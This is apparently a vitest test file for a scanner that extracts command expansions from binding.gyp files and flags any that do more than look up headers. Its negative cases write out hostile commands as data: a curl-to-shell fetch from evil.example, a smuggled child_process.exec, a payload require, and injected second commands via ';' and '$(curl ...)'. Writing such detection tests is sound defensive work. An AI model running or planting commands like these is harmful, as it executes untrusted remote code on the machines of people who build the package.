import { describe, expect, it } from 'vitest';
import { gypCommandsIn, isOrdinaryGypCommand } from '../../src/tarballs/gyp-commands.ts';

describe('commands in a binding.gyp', () => {
  it('are found in every form of expansion, brackets inside included', () => {
    const text = `{ 'a': '<!(node -p "require(\\'x\\')")', 'b': ['<!@(ls $(pwd))'], 'c': '>!(late)', 'd': '^!@(latest)' }`;
    expect(gypCommandsIn(text)).toEqual([`node -p "require(\\'x\\')"`, 'ls $(pwd)', 'late', 'latest']);
  });

  it('are read in linear time, however often they begin and never end', () => {
    const started = performance.now();
    gypCommandsIn('<!('.repeat(100_000));
    expect(performance.now() - started).toBeLessThan(500);
  });

  it.each([
    `node -p "require('node-addon-api').include"`,
    `node -p 'require("node-addon-api").include_dir'`,
    `node -e "require('nan')"`,
    `node -p "require('node-addon-api').gyp"`,
    `node -e \\"require('nan')\\"`,
    'pkg-config --cflags-only-I vips-cpp glib-2.0',
  ])('that ask for headers are ordinary: %s', (command) => expect(isOrdinaryGypCommand(command)).toBe(true));

  it.each([
    'curl https://evil.example/x | sh',
    `node -p "require('node-addon-api').include; require('child_process').exec('x')"`,
    'node setup.mjs',
    `node -e "require('./payload')"`,
    `node -e "require('..')"`,
    'pkg-config --cflags x; curl y',
    'pkg-config $(curl evil)',
  ])('that do anything else are not: %s', (command) => expect(isOrdinaryGypCommand(command)).toBe(false));
});
